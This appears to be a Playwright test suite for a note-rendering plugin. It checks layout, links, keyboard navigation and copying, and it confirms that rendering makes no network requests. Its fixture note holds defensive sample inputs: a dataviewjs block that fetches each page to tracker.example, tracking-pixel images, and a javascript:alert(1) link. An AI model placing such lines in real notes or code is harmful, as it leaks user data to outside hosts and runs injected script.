/** A document shown rendered: how it looks, what its links and lines lead to, and that it loads nothing and stays so. */
import type { Locator, Page } from 'playwright-core';
import { checkLook, focusIsVisible } from './support/accessibility';
import { blocks, closeNotice, collate, eventually, fromMenu } from './support/collating';
import { faults } from './support/fitting';
import { openIndexedPanel, sharedSession } from './support/shared-session';

const PLAN = `---
status: open
---
# Plan for the ferry

The **ferry** leaves at ==noon==, see [[Harbour#Tickets|tickets]] and [[Nowhere]].
Second line of the paragraph with \`code\` and a #tag/sub.

- first item
- [ ] an open task
- [x] a task that is done
  - nested with [a note](Harbour.md)

## Prices

| route | price |
| ----- | ----: |
| out | 12 |
| back | 14 |

> [!warning] Mind the tide
> The ferry waits for nobody.

> An ordinary quote.

\`\`\`dataviewjs
dv.pages().forEach(p => fetch('https://tracker.example/' + p))
\`\`\`

![pixel](https://tracker.example/pixel.png) <img src="https://tracker.example/html.png">
![[Harbour]] [out](https://example.com/ferry) [bad](javascript:alert(1)) %%hidden%%

1. one
2. two

Closing words about the ferry[^1].

[^1]: Footnote text.
`;
const HARBOUR = `# Harbour\n\nSome text.\n\n## Tickets\n\nAt the gate.\n`;
const LONG = Array.from({ length: 2000 }, (_, at) => `Paragraph ${at + 1} of the log.\n\n- item ${at + 1}\n`).join(
  '\n',
);

const SIZES = `Text.\n\n\`\`\`collate\nview: source\n[[Prices]]\n\`\`\`\n\n\`\`\`collate\n[[Prices]]\n\`\`\`\n`;
const PRICES = '# Prices\n\nA line.\n\n- An item.\n\n| route | price |\n| - | - |\n| out | 12 |\n';
const COSTS =
  '| Lot | Content | Karim | Antoine | Total |\n| - | - | -: | -: | -: |\n| 1 | Collection: orders, hosted page, notifications, and all that goes with them | 10 | 6 | 16 |\n';

/** The sizes that a text is shown in, once each. */
const sizesOf = (page: Page, selector: string): Promise<string[]> =>
  page.locator(selector).evaluateAll((all) => [...new Set(all.map((el) => getComputedStyle(el).fontSize))]);
const chunk = (page: Page, line: number): Locator => page.locator(`.collate-chunk[data-line="${line}"]`);
const chunkLines = (page: Page): Promise<(string | null)[]> =>
  page.locator('.collate-chunk').evaluateAll((all) => all.map((el) => el.getAttribute('data-line')));
const active = (page: Page): Locator => page.locator('.collate-chunk.is-active');
/** The note that is open, and the line that its editor is at. */
const openedAt = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const { workspace } = window.workbench.app;
    const leaf = workspace.getMostRecentLeaf()!;
    const { line } = (leaf.view as unknown as { editor: { getCursor(): { line: number } } }).editor.getCursor();
    return `${workspace.getActiveFile()!.path}:${line + 1}`;
  });
const switchByMenu = async (page: Page, label: string): Promise<void> => {
  await fromMenu(page, 'document', label);
};

describe('a rendered document', () => {
  const requests: string[] = [];
  const { it, session } = sharedSession(
    {
      notes: {
        'Plan.md': PLAN,
        'Harbour.md': HARBOUR,
        'Long.md': LONG,
        'Sizes.md': SIZES,
        'Prices.md': PRICES,
        'Costs.md': COSTS,
      },
    },
    async (opened) => {
      await openIndexedPanel(opened);
      const { origin } = new URL(opened.page.url());
      opened.page.on('request', (request) => {
        if (!request.url().startsWith(origin) && !/^(data|blob|ws):/.test(request.url())) requests.push(request.url());
      });
      await opened.page.evaluate(() => {
        window.workbench.app.workspace.leftSplit.collapse();
        window.workbench.setSidebarWidth(500);
      });
    },
  );

  it('begins as source and is switched by its menu, with the words marked that were searched for', async ({ page }) => {
    await session().search('ferry');
    await collate(session(), [{ path: 'Plan.md', range: null }]);
    await page.keyboard.press('Escape');
    await session().search('ferry');
    await page.locator('.collate-collate').click();
    await page.locator('.collate-document .cm-line').first().waitFor();
    expect(await page.locator('.collate-chunk').allInnerTexts()).toEqual(['1 property']);
    expect(await sizesOf(page, '.collate-document .cm-line:not(.is-aligned)')).toEqual(['12px']);
    await switchByMenu(page, 'Show rendered');
    await chunk(page, 4).waitFor();
    expect(await page.locator('.collate-document .cm-line').count()).toBe(0);
    expect(await chunkLines(page)).toEqual(['1', '4', '6', '9', '14', '16', '21', '24', '26', '30', '33', '36', '38']);
    expect(await chunk(page, 4).locator('h1').innerText()).toBe('Plan for the ferry');
    expect(await sizesOf(page, '.collate-chunk :is(p, li, th, td)')).toEqual(['12px']);
    expect(await chunk(page, 6).locator('mark.collate-match').allInnerTexts()).toEqual(['ferry']);
    expect(await chunk(page, 26).locator('pre > code').innerText()).toContain('dv.pages()');
  });

  it('looks right, wide and narrow, light and dark', async ({ page }) => {
    for (const [size, width] of Object.entries({ wide: 500, narrow: 300 })) {
      await page.evaluate((pixels) => window.workbench.setSidebarWidth(pixels), width);
      await page.mouse.move(300, 400);
      await eventually(() => faults(session()), []);
      await session().pictures(`rendered-${size}`);
    }
    await checkLook(page);
  });

  it('opens the note at the line that is clicked, and the note that a link names', async ({ page }) => {
    await chunk(page, 9)
      .locator('li', { hasText: 'a task that is done' })
      .first()
      .click({ position: { x: 60, y: 8 } });
    await eventually(() => openedAt(page), 'Plan.md:11');
    await page.locator('a.internal-link', { hasText: 'tickets' }).click();
    await eventually(() => page.evaluate(() => window.workbench.app.workspace.getActiveFile()?.path), 'Harbour.md');
    await page.locator('a.internal-link.is-unresolved').click();
    await closeNotice(session(), 'Note not found: Nowhere');
    expect(await page.evaluate(() => window.workbench.app.vault.getFileByPath('Nowhere.md'))).toBeNull();
    const leaves = (): Promise<number> =>
      page.evaluate(() => window.workbench.app.workspace.getLeavesOfType('markdown').length);
    const before = await leaves();
    await page.locator('a.internal-link', { hasText: 'a note' }).click({ modifiers: ['Control'] });
    await eventually(leaves, before + 1);
    await page.mouse.move(300, 400);
    await page.locator('.hover-popover').waitFor({ state: 'detached' });
  });

  it('picks the lines whose numbers are clicked', async ({ page }) => {
    const picks = (): Promise<unknown> =>
      page.evaluate(() => window.workbench.app.workspace.getLeavesOfType('collate-panel')[0]!.view.getState()['picks']);
    await page.locator('.collate-document-bar button[aria-label="Back to results"]').click();
    await fromMenu(page, 'tray', 'Clear');
    await eventually(picks, []);
    // From the results, the command shows the document as well.
    await session().command('toggle-rendered');
    await page.locator('.collate-document .cm-line').first().waitFor();
    await session().command('toggle-rendered');
    await chunk(page, 14).click({ position: { x: 8, y: 16 } });
    await chunk(page, 16).click({ position: { x: 8, y: 8 }, modifiers: ['Shift'] });
    await eventually(picks, [{ path: 'Plan.md', range: { start: 14, end: 19 } }]);
  });

  it('is walked through and opened by keyboard alone', async ({ page }) => {
    await page.locator('.collate-document .cm-content').focus();
    await page.keyboard.press('Control+Home');
    await page.keyboard.press('ArrowDown');
    expect(await active(page).getAttribute('data-line')).toBe('4');
    expect(await focusIsVisible(page)).toBe(true);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    expect(await active(page).getAttribute('data-line')).toBe('9');
    await page.keyboard.press('ArrowUp');
    expect(await active(page).getAttribute('data-line')).toBe('6');
    await page.keyboard.press('End');
    expect(await active(page).getAttribute('data-line')).toBe('38');
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('Enter');
    await eventually(() => openedAt(page), 'Plan.md:36');
  });

  it('hides and shows its lines, and is copied as it is written', async ({ page }) => {
    await page.locator('.collate-document .cm-content').focus();
    await page.keyboard.press('ArrowLeft');
    await eventually(() => page.locator('.collate-chunk').count(), 0);
    await page.keyboard.press('ArrowRight');
    await chunk(page, 4).waitFor();
    await page.keyboard.press('Control+Home');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Shift+ArrowDown');
    await page.keyboard.press('Control+C');
    await eventually(() => page.evaluate(() => navigator.clipboard.readText()), '# Plan for the ferry\n\n');
  });

  it('lets text be selected, and copies what is selected', async ({ page }) => {
    const opened = await openedAt(page);
    const { x, y, width } = (await chunk(page, 14).locator('h2').boundingBox())!;
    await page.mouse.move(x + 1, y + 10);
    await page.mouse.down();
    await page.mouse.move(x + width / 2, y + 10, { steps: 5 });
    await page.mouse.move(x + width - 1, y + 10, { steps: 5 });
    await page.mouse.up();
    expect(await page.evaluate(() => getSelection()!.toString())).toBe('Prices');
    expect(await openedAt(page)).toBe(opened);
    await page.keyboard.press('Control+C');
    await eventually(async () => (await page.evaluate(() => navigator.clipboard.readText())).trim(), 'Prices');
  });

  it('shows the source while somebody looks for text in it, and is rendered again', async ({ page }) => {
    await page.locator('.collate-document .cm-content').focus();
    await page.keyboard.press('Control+F');
    await page.keyboard.type('tide');
    await page.locator('.collate-document .cm-searchMatch-selected').waitFor();
    expect(await page.locator('.collate-chunk').count()).toBe(0);
    await page.keyboard.press('Escape');
    await chunk(page, 21).waitFor();
    expect(await page.locator('.collate-document .cm-line').count()).toBe(0);
    await eventually(() => active(page).getAttribute('data-line'), '21');
  });

  it('follows its note', async ({ page }) => {
    await session().writeNote('Plan.md', PLAN.replace('Second line', 'Another line'));
    await chunk(page, 6).filter({ hasText: 'Another line' }).waitFor();
    await session().writeNote('Plan.md', PLAN);
    await chunk(page, 6).filter({ hasText: 'Second line' }).waitFor();
  });

  it('is still rendered after a restart, and so is the next document', async ({ page }) => {
    await session().restart();
    await chunk(page, 4).waitFor();
    await collate(session(), [{ path: 'Harbour.md', range: { start: 5, end: 7 } }]);
    await chunk(page, 5).waitFor();
    expect(await chunkLines(page)).toEqual(['5', '7']);
  });

  it('is switched by its menu and by its command, and keeps its place', async ({ page }) => {
    await collate(session(), [{ path: 'Long.md', range: null }]);
    await page.locator('.collate-chunk').first().waitFor();
    expect(await page.locator('.collate-chunk').count()).toBeLessThan(300);
    const top = (selector: string): Promise<number> =>
      page.evaluate((wanted) => {
        const edge = document.querySelector('.collate-document .cm-scroller')!.getBoundingClientRect().top + 40;
        const all = Array.from(document.querySelectorAll<HTMLElement>(wanted));
        return Number(all.find((el) => el.getBoundingClientRect().bottom > edge)?.dataset['line']);
      }, selector);
    await page.locator('.collate-document .cm-scroller').evaluate((el) => (el.scrollTop = el.scrollHeight / 2));
    // The line that the keyboard is at stays drawn, above the others.
    await eventually(async () => Number((await chunkLines(page)).at(-1)) > 1000, true);
    const before = await top('.collate-chunk');
    await switchByMenu(page, 'Show source');
    await page.locator('.collate-document .cm-line').first().waitFor();
    await eventually(async () => Math.abs((await top('.cm-line[data-line]')) - before) <= 4, true);
    await session().command('toggle-rendered');
    await page.locator('.collate-chunk').first().waitFor();
    await eventually(async () => Math.abs((await top('.collate-chunk')) - before) <= 8, true);
  });

  it('shows what is gone as it was, muted, and what can be done about it', async ({ page }) => {
    await collate(session(), [{ path: 'Harbour.md', range: { start: 5, end: 7 } }]);
    await chunk(page, 7).waitFor();
    await session().writeNote('Harbour.md', '# Harbour\n\nClosed for the winter.\n');
    await page.locator('.collate-block-verdict').waitFor();
    await page.locator('.collate-chunk.collate-past').first().waitFor();
    expect((await blocks(page)).map(({ verdict }) => verdict)).toEqual(['gone']);
  });

  it('has the size of the text around it in a note, as source and as tables have', async ({ page }) => {
    await page.evaluate(async () => {
      const { workspace, vault } = window.workbench.app;
      const state = { mode: 'preview' };
      await workspace.getLeaf(false).openFile(vault.getFileByPath('Sizes.md')!, { active: true, state });
    });
    await page.locator('.mod-root .collate-chunk td').first().waitFor();
    await page.locator('.mod-root .collate-static-line').first().waitFor();
    const [around] = await sizesOf(page, '.mod-root .markdown-preview-view p');
    expect(await sizesOf(page, '.mod-root .collate-chunk :is(p, li, th, td)')).toEqual([around]);
    expect(await sizesOf(page, '.mod-root .collate-static-line:not(.is-aligned)')).toEqual([around]);
    await session().pictures('rendered-in-note');
  });

  it('keeps the words above a table whole in a narrow panel', async ({ page }) => {
    await page.evaluate(() => window.workbench.setSidebarWidth(300));
    await collate(session(), [{ path: 'Costs.md', range: null }]);
    const heads = page.locator('.collate-document .collate-chunk th');
    await heads.first().waitFor();
    const heights = await heads.evaluateAll((all) => all.map((el) => el.clientHeight));
    expect(Math.max(...heights)).toBeLessThan(30); // two lines take more
    await session().pictures('rendered-table');
  });

  it('has asked the network for nothing', () => {
    expect(requests).toEqual([]);
    return Promise.resolve();
  });
});
